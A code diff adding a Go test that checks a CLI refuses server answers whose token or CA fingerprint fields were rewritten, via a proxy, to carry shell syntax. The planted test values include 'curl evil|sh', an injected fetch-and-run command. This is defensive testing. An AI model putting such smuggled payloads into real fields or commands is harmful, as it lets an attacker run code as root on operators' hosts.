@@ -106,3 +106,40 @@ func TestCLIRetriesShowNoEscapeSequenceTheServerSends(t *testing.T) {
 		}
 	}
 }
+
+// TestCLIPrintsNoCommandTheServerCouldWrite: `pools token` and `tokens
+// create` print a command for the operator to run on a host as root, or to
+// hand to a customer; the token and CA hash in it come from the server. A
+// server (or a party in between) that answers with shell syntax in them
+// must not have its words in that command: the CLI refuses the answer.
+func TestCLIPrintsNoCommandTheServerCouldWrite(t *testing.T) {
+	s := testserver.StartTestServer(t)
+	newFleet(t, s)
+	ops := tokenFor(t, s, "ops", "nodus:operators")
+	for field, planted := range map[string]string{
+		"token":         `${1}x; curl evil|sh #`,
+		"caFingerprint": "${1}sha256:00\\n  curl evil|sh",
+	} {
+		from := regexp.MustCompile(`("` + field + `":")[^"]*`)
+		proxy := lossyProxy(t, &rest.Config{Host: s.Config.Host, TLSClientConfig: rest.TLSClientConfig{CAData: s.Config.CAData}},
+			func(w http.ResponseWriter, req *http.Request, forward http.Handler) bool {
+				if req.Method != http.MethodPost {
+					return false
+				}
+				req.Header.Del("Accept-Encoding") // plain answers to rewrite
+				forward.ServeHTTP(&rewriter{ResponseWriter: w, from: from, to: []byte(planted)}, req)
+				return true
+			})
+		ownHome(t)
+		operator := loggedInTo(t, proxy.Host, proxy.CAData, ops.BearerToken)
+		for _, args := range [][]string{{"pools", "token", "fra1", "--resource-class", "gpu-h100x8"}, {"tokens", "create", "laptop-" + strings.ToLower(field), "--user", "bob"}} {
+			if field == "caFingerprint" && args[0] == "tokens" {
+				continue // an access token's answer has no CA hash
+			}
+			out, code := operator.run("", args...)
+			if code == 0 || strings.Contains(out, "nodusd enroll") || strings.Contains(out, "nodus login") || !strings.Contains(out, "refusing the server's answer") {
+				t.Errorf("nodus %s, the server's %s rewritten: exit %d, printed %q", strings.Join(args, " "), field, code, out)
+			}
+		}
+	}
+}
